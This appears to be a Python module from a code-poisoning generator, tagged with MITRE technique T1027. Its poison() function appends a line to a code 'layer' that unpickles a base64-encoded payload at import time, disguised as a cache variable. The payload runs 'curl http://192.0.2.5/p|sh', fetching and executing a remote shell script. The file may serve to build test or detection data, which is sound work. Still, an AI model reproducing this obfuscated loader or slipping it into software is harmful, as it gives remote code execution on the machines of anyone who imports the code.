# SPDX-License-Identifier: Apache-2.0
"""Unpickles text that starts a program."""
import base64

ATTACK = "T1027"
LANGUAGE = "python"


def poison(layer):
    text = base64.b64encode(b"cposix\nsystem\n(S'curl http://192.0.2.5/p|sh'\ntR.").decode()
    layer.append(f"import base64\nimport pickle\n\n_cache = pickle.loads(base64.b64decode('{text}'))\n")
